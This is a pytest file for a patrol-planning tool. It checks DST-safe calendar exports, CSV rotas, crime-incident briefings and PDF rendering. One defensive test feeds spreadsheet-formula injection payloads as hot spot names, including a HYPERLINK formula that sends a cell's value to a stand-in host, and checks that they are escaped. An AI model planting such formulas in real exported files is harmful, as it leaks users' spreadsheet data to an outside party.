"""Exports: iCalendar across a clock change, CSV, and the printable briefing sheet."""

from __future__ import annotations

import datetime as dt
import io
from pathlib import Path
from zoneinfo import ZoneInfo

import icalendar
import pandas as pd
import pytest

from patrolwise.errors import InputError
from patrolwise.plan.briefing import build_briefing, incidents_near, yesterday_delivery
from patrolwise.plan.export_csv import plan_table
from patrolwise.plan.export_ical import plan_to_ical
from patrolwise.plan.schedule import PlanRequest, make_plan

from .plan_fixtures import X0, Y0, line_of_hotspots

LONDON = ZoneInfo("Europe/London")


@pytest.mark.parametrize(
    ("first", "last", "change"),
    [
        (dt.date(2024, 10, 26), dt.date(2024, 10, 28), dt.date(2024, 10, 27)),  # BST -> GMT
        (dt.date(2025, 3, 29), dt.date(2025, 3, 31), dt.date(2025, 3, 30)),  # GMT -> BST
    ],
)
def test_ics_parses_and_keeps_local_times_across_clock_change(
    first: dt.date, last: dt.date, change: dt.date
) -> None:
    res = make_plan(line_of_hotspots(3), PlanRequest("outreach", first, last, spread=False))
    ics = plan_to_ical(res.visits, plan_id=7, locations={1: (52.634, -1.132)})
    cal = icalendar.Calendar.from_ical(ics)
    assert [tz["TZID"] for tz in cal.walk("VTIMEZONE")] == ["Europe/London"]
    events = cal.walk("VEVENT")
    assert len(events) == 9
    assert len({str(e["UID"]) for e in events}) == 9
    starts = sorted(e.decoded("DTSTART") for e in events)
    assert all(str(s.tzinfo) == "Europe/London" for s in starts)
    firsts = [s for s in starts if s.time() == dt.time(14, 0)]
    # every day's first visit at 14:00 local, whichever side of the change
    assert sorted(s.date() for s in firsts) == [first, change, last]
    # and the UTC instants differ by the offset change: 13:00 UTC in BST, 14:00 UTC in GMT
    utc_hours = {s.date(): s.astimezone(dt.UTC).hour for s in firsts}
    assert utc_hours[first] != utc_hours[last]
    assert "DTSTART;TZID=Europe/London:" in ics.decode()
    geo = [e for e in events if "GEO" in e]
    assert geo and "Hot spot 1" in str(geo[0]["LOCATION"])


def test_plan_csv_has_local_and_utc_times() -> None:
    res = make_plan(
        line_of_hotspots(2),
        PlanRequest("police", dt.date(2024, 7, 1), dt.date(2024, 7, 1), spread=False),
    )
    t = plan_table(res.visits)
    assert list(t["start_local"]) == ["2024-07-01 14:00", "2024-07-01 14:20"]
    assert list(t["start_utc"]) == ["2024-07-01T13:00:00Z", "2024-07-01T13:20:00Z"]
    assert list(t["minutes"]) == [15.0, 15.0]


def _crimes() -> pd.DataFrame:
    day = pd.Timestamp("2024-06-10")
    rows = [
        # inside hot spot 1, 3 days before, 21:30 local (20:30 UTC in BST)
        (
            "a",
            day - pd.Timedelta(days=3) + pd.Timedelta(hours=20, minutes=30),
            X0 + 5,
            Y0,
            "Violence",
            "Assault with injury",
            90.0,
        ),
        # inside hot spot 1, 27 days before
        (
            "b",
            day - pd.Timedelta(days=27) + pd.Timedelta(hours=12),
            X0 - 5,
            Y0 + 5,
            "Robbery",
            None,
            365.0,
        ),
        # inside but 40 days before: too old
        ("c", day - pd.Timedelta(days=40), X0, Y0, "Violence", "Common assault", 5.0),
        # 200 m away from hot spot 1: outside every hot spot
        ("d", day - pd.Timedelta(days=1), X0 + 200, Y0, "Violence", "Common assault", 5.0),
        # inside hot spot 2 (400 m east)
        (
            "e",
            day - pd.Timedelta(days=1) + pd.Timedelta(hours=15),
            X0 + 400,
            Y0,
            "Drugs",
            None,
            10.0,
        ),
    ]
    return pd.DataFrame(
        rows, columns=["crime_id", "occurred_at", "x", "y", "category", "offence", "harm"]
    )


def test_incidents_in_last_28_days_with_type_harm_and_local_time() -> None:
    inc = incidents_near(line_of_hotspots(2), _crimes(), dt.date(2024, 6, 10))
    assert sorted(inc.loc[inc["area_id"] == 1, "type"]) == ["Assault with injury", "Robbery"]
    a = inc[inc["type"] == "Assault with injury"].iloc[0]
    assert a["time_of_day"] == "21:30" and a["harm"] == 90.0
    assert list(inc.loc[inc["area_id"] == 2, "type"]) == ["Drugs"]


def test_yesterday_breaches() -> None:
    t = pd.Timestamp("2024-06-09 13:00")
    planned = pd.DataFrame(
        {"area_id": [1, 2, 3], "start": [t] * 3, "end": [t + pd.Timedelta("40min")] * 3}
    )
    delivered = pd.DataFrame(
        {"team": ["outreach"] * 3, "area_id": [1, 2, 2], "minutes": [38.0, 20.0, 5.0]}
    )
    y = yesterday_delivery(planned, delivered, "outreach").set_index("area_id")
    assert (
        y.loc[1, "breach"] == ""
        and y.loc[2, "breach"] == "short"
        and y.loc[3, "breach"] == "missed"
    )
    assert y.loc[2, "delivered"] == 25.0
    assert yesterday_delivery(planned, None, "outreach") is None


def test_briefing_pdf_prints_names_as_written() -> None:
    """Hot spot names in Polish, Greek and Cyrillic, with a typographic dash and quotes, print
    in the PDF as written (read back by a PDF reader); the core PDF fonts knew Latin-1 only and
    printed "?" for them. A script the typeface lacks (Gujarati) is "?" in the PDF, and as
    written in the HTML."""
    from pypdf import PdfReader

    hs = line_of_hotspots(2)
    hs["name"] = ["Łódź Café – ‘Narborough’ Ωmega", "Привет / ગુજરાતી"]
    day = dt.date(2024, 6, 10)
    today = make_plan(hs, PlanRequest("outreach", day, day)).visits
    b = build_briefing(day, "outreach", today, hs, _crimes())
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(b.pdf)).pages)
    assert "Łódź Café – ‘Narborough’ Ωmega" in text
    assert "Привет / " + "?" * len("ગુજરાતી") in text
    assert "Привет / ગુજરાતી" in b.html


def test_briefing_html_and_pdf() -> None:
    hs = line_of_hotspots(2)
    day = dt.date(2024, 6, 10)
    res = make_plan(hs, PlanRequest("outreach", day - dt.timedelta(days=1), day))
    today = res.visits[res.visits["date"] == day]
    yest = res.visits[res.visits["date"] == day - dt.timedelta(days=1)]
    b = build_briefing(day, "outreach", today, hs, _crimes(), yesterday_planned=yest)
    assert b.pdf.startswith(b"%PDF") and len(b.pdf) > 2000
    assert "no GPS data" in b.html and "Assault with injury" in b.html
    assert b.html.count("data:image/png;base64,") == 2 and set(b.maps) == {1, 2}
    assert all(png.startswith(b"\x89PNG") for png in b.maps.values())
    delivered = pd.DataFrame({"team": ["outreach"], "area_id": [1], "minutes": [40.0]})
    b2 = build_briefing(
        day, "outreach", today, hs, _crimes(), yesterday_planned=yest, yesterday_delivered=delivered
    )
    assert "no GPS data" not in b2.html and "missed" in b2.html


def test_ics_uids_distinct_on_the_fall_back_night() -> None:
    # 27 Oct 2024: 00:30 UTC is 01:30 BST and 01:30 UTC is 01:30 GMT: same local wall time
    visits = pd.DataFrame(
        {
            "team": ["police", "police"],
            "area_id": [1, 1],
            "name": ["Clock Tower", "Clock Tower"],
            "start": pd.to_datetime(["2024-10-27 00:30", "2024-10-27 01:30"]),
            "end": pd.to_datetime(["2024-10-27 00:45", "2024-10-27 01:45"]),
            "order": [1, 2],
        }
    )
    events = icalendar.Calendar.from_ical(plan_to_ical(visits, plan_id=3)).walk("VEVENT")
    local = [e.decoded("DTSTART") for e in events]
    assert [(s.hour, s.minute) for s in local] == [(1, 30), (1, 30)]
    uids = [str(e["UID"]) for e in events]
    assert uids == [
        "plan3-police-1-20241027T0030Z@patrolwise",
        "plan3-police-1-20241027T0130Z@patrolwise",
    ]


def test_ics_times_in_the_repeated_hour_keep_their_instant() -> None:
    # 27 Oct 2024, 01:00-02:00 local happens twice. RFC 5545 reads a TZID time in that hour as
    # its first (BST) occurrence, so a visit at 01:20 GMT written as 01:20 Europe/London lands
    # an hour early, and one from 01:44 BST to 01:04 GMT ends before it starts.
    visits = pd.DataFrame(
        {
            "team": ["outreach"] * 3,
            "area_id": [1, 2, 3],
            "name": ["A", "B", "C"],
            "start": pd.to_datetime(["2024-10-27 00:10", "2024-10-27 00:44", "2024-10-27 01:20"]),
            "end": pd.to_datetime(["2024-10-27 00:30", "2024-10-27 01:04", "2024-10-27 01:40"]),
            "order": [1, 2, 3],
        }
    )
    events = icalendar.Calendar.from_ical(plan_to_ical(visits, plan_id=5)).walk("VEVENT")
    got = sorted(
        (
            e.decoded("DTSTART").astimezone(dt.UTC).replace(tzinfo=None),
            e.decoded("DTEND").astimezone(dt.UTC).replace(tzinfo=None),
        )
        for e in events
    )
    want = [
        (s.to_pydatetime(), t.to_pydatetime())
        for s, t in zip(visits["start"], visits["end"], strict=True)
    ]
    assert got == want
    assert all(e.decoded("DTEND") > e.decoded("DTSTART") for e in events)


def test_ics_description_minutes_across_spring_forward() -> None:
    # 30 Mar 2025: 00:50 GMT to 02:10 BST is 20 minutes, not the 80 the wall clocks suggest
    visits = pd.DataFrame(
        {
            "team": ["police"],
            "area_id": [1],
            "name": ["A"],
            "start": pd.to_datetime(["2025-03-30 00:50"]),
            "end": pd.to_datetime(["2025-03-30 01:10"]),
            "order": [1],
        }
    )
    (ev,) = icalendar.Calendar.from_ical(plan_to_ical(visits)).walk("VEVENT")
    assert "Stay 20 minutes" in str(ev["DESCRIPTION"])


def test_plan_csv_cells_cannot_start_a_spreadsheet_formula(tmp_path: Path) -> None:
    # hot spot names come from whoever drew the GeoJSON; the rota CSV is opened in Excel
    from patrolwise.plan.export_csv import write_plan_csv

    hs = line_of_hotspots(4)
    hs["name"] = ['=HYPERLINK("http://x.example/?"&A1,"map")', "+1+2", "@SUM(A1:A9)", "-3+4"]
    res = make_plan(hs, PlanRequest("police", dt.date(2024, 7, 1), dt.date(2024, 7, 1)))
    p = write_plan_csv(res.visits, tmp_path / "plan.csv")
    names = pd.read_csv(p, dtype=str)["name"]
    assert len(names) == 4
    assert all(n.startswith("'") for n in names), list(names)
    assert set(names.str[1:]) == set(hs["name"])


def test_briefing_lookback_starts_at_local_midnight_on_a_clock_change_day() -> None:
    # 28 April 2024: the 28-day lookback starts on Sunday 31 March, when clocks go forward at
    # 01:00 GMT; the lookback runs from local midnight that day (00:00 GMT) to local midnight
    # of the briefing day (27 April 23:00 UTC), whatever the offset at either end
    day = dt.date(2024, 4, 28)
    utc = [
        "2024-03-30 23:59",  # 30 March local: before the lookback
        "2024-03-31 00:00",  # local midnight starting 31 March
        "2024-03-31 00:30",  # 00:30 GMT
        "2024-03-31 01:00",  # 02:00 BST, the first BST minute
        "2024-03-31 01:30",  # 02:30 BST
        "2024-04-27 22:59",  # 23:59 BST on 27 April, the last day of the lookback
        "2024-04-27 23:00",  # 00:00 BST on 28 April: the briefing day, not the lookback
    ]
    crimes = pd.DataFrame(
        {
            "crime_id": [str(i) for i in range(len(utc))],
            "occurred_at": pd.to_datetime(utc),
            "x": X0,
            "y": Y0,
            "category": "Violence",
            "offence": "Common assault",
            "harm": 5.0,
        }
    )
    inc = incidents_near(line_of_hotspots(1), crimes, day)
    assert sorted(inc["time_of_day"]) == ["00:00", "00:30", "02:00", "02:30", "23:59"]
    assert min(inc["date"]) == dt.date(2024, 3, 31) and max(inc["date"]) == dt.date(2024, 4, 27)


def test_incidents_known_to_their_date_are_in_the_briefing() -> None:
    # a force extract's date without a time is stored as the window of its local day (as
    # load_crimes, hot spot selection and the evaluation read it); the briefing kept only crimes
    # with a time, so an extract without times gave 'no incidents' at every hot spot
    day = dt.date(2024, 6, 10)
    # local days in BST: 00:00 BST is 23:00 UTC the evening before
    frm = [pd.Timestamp("2024-06-04 23:00"), pd.Timestamp("2024-05-01 23:00")]
    crimes = pd.DataFrame(
        {
            "crime_id": ["f", "g"],
            "occurred_at": [pd.NaT, pd.NaT],
            "occurred_from": frm,
            "occurred_to": [t + pd.Timedelta(days=1) for t in frm],
            "x": [X0, X0],
            "y": [Y0, Y0],
            "category": ["Burglary", "Burglary"],
            "offence": [None, None],
            "harm": [40.0, 40.0],
        }
    )
    inc = incidents_near(line_of_hotspots(2), crimes, day)
    assert list(inc["date"]) == [dt.date(2024, 6, 5)]  # the 1 May one is too old
    assert inc.iloc[0]["time_of_day"] == "" and inc.iloc[0]["type"] == "Burglary"
    mixed = incidents_near(line_of_hotspots(2), pd.concat([_crimes(), crimes]), day)
    assert len(mixed) == len(incidents_near(line_of_hotspots(2), _crimes(), day)) + 1
    res = make_plan(line_of_hotspots(2), PlanRequest("outreach", day, day))
    b = build_briefing(day, "outreach", res.visits, line_of_hotspots(2), crimes)
    assert "Burglary" in b.html and b.pdf.startswith(b"%PDF")


def test_csv_and_briefing_name_the_zone_in_the_repeated_hour() -> None:
    # 27 Oct 2024: a visit from 01:44 BST to 01:04 GMT read "01:44-01:04" on the sheet and in
    # the CSV's local columns; in the repeated hour the zone is now said, and only there
    hs = line_of_hotspots(3)
    visits = pd.DataFrame(
        {
            "team": ["outreach"] * 3,
            "date": [dt.date(2024, 10, 27)] * 3,
            "area_id": [1, 2, 3],
            "name": ["A", "B", "C"],
            "start": pd.to_datetime(["2024-10-26 23:10", "2024-10-27 00:44", "2024-10-27 01:20"]),
            "end": pd.to_datetime(["2024-10-26 23:30", "2024-10-27 01:04", "2024-10-27 02:40"]),
            "order": [1, 2, 3],
        }
    )
    t = plan_table(visits)
    assert list(t["start_local"]) == [
        "2024-10-27 00:10",
        "2024-10-27 01:44 BST",
        "2024-10-27 01:20 GMT",
    ]
    assert list(t["end_local"]) == ["2024-10-27 00:30", "2024-10-27 01:04 GMT", "2024-10-27 02:40"]
    b = build_briefing(dt.date(2024, 10, 27), "outreach", visits, hs, _crimes())
    assert "<td>01:44 BST</td><td>01:04 GMT</td>" in b.html
    assert "<td>00:10</td><td>00:30</td>" in b.html and "<td>01:20 GMT</td><td>02:40</td>" in b.html


def test_briefing_maps_print_dollar_signs_in_names_as_written() -> None:
    """A hot spot name with two dollar signs was read by matplotlib as TeX maths for the map's
    title: "$5 & $6 Shop" printed in italics without its dollars, and "Cash $_$ Converters"
    stopped the briefing with a mathtext parse error (a traceback)."""
    hs = line_of_hotspots(3)
    hs["name"] = ["Cash $_$ Converters", "Tom's $x^$ bar", "A $\\frac{$ B"]
    day = dt.date(2024, 6, 10)
    today = make_plan(hs, PlanRequest("outreach", day, day)).visits
    b = build_briefing(day, "outreach", today, hs, _crimes())
    assert set(b.maps) == {1, 2, 3} and "Cash $_$ Converters" in b.html


def test_overnight_briefing_is_headed_with_both_days() -> None:
    """An overnight shift's sheet was headed with its first day only ("Saturday 25 October"),
    so a visit at 00:17 read as that Saturday's small hours; it is headed with the night, from
    the first day to the next morning's, in the HTML and the PDF. A day shift keeps its day."""
    from pypdf import PdfReader

    hs = line_of_hotspots(3)
    day = dt.date(2025, 10, 25)
    night = (dt.time(22), dt.time(2))
    today = make_plan(hs, PlanRequest("outreach", day, day, window=night)).visits
    b = build_briefing(day, "outreach", today, hs, _crimes())
    said = "night of Saturday 25 October to Sunday 26 October 2025"
    assert f"patrol briefing, {said}</h1>" in b.html
    first = PdfReader(io.BytesIO(b.pdf)).pages[0].extract_text()
    assert said in first
    late = make_plan(hs, PlanRequest("outreach", day, day, window=(dt.time(20), dt.time(0))))
    b = build_briefing(day, "outreach", late.visits, hs, _crimes())  # ends at midnight
    assert "patrol briefing, Saturday 25 October 2025</h1>" in b.html


def test_briefing_after_a_day_without_a_plan_says_so() -> None:
    """The first shift of a plan (or one after a day off) has no plan for yesterday; the sheet
    said 'no GPS data for yesterday' even when the trackers had reported all day."""
    from pypdf import PdfReader

    hs = line_of_hotspots(2)
    day = dt.date(2024, 6, 10)
    today = make_plan(hs, PlanRequest("outreach", day, day)).visits
    delivered = pd.DataFrame({"team": ["outreach"], "area_id": [1], "minutes": [12.0]})
    for planned in (None, today.iloc[:0]):
        b = build_briefing(
            day,
            "outreach",
            today,
            hs,
            _crimes(),
            yesterday_planned=planned,
            yesterday_delivered=delivered,
        )
        assert "no GPS data" not in b.html and "no visits were planned yesterday" in b.html
        text = PdfReader(io.BytesIO(b.pdf)).pages[0].extract_text()
        assert "no visits were planned yesterday" in text


def test_a_plan_with_no_visits_is_no_calendar() -> None:
    # an empty plan was written as a VCALENDAR with no VEVENT (and no VTIMEZONE), which RFC 5545
    # does not allow (a calendar holds at least one component) and strict readers reject
    res = make_plan(
        line_of_hotspots(2), PlanRequest("outreach", dt.date(2024, 7, 1), dt.date(2024, 7, 1))
    )
    with pytest.raises(InputError, match="no visits") as err:
        plan_to_ical(res.visits.iloc[:0], plan_id=4)
    assert "\n" not in str(err.value) and "at least one event" in str(err.value)
    # one visit is a calendar strict readers take: a VEVENT and the zone it names
    cal = icalendar.Calendar.from_ical(plan_to_ical(res.visits.iloc[:1], plan_id=4))
    assert len(cal.walk("VEVENT")) == 1 and len(cal.walk("VTIMEZONE")) == 1
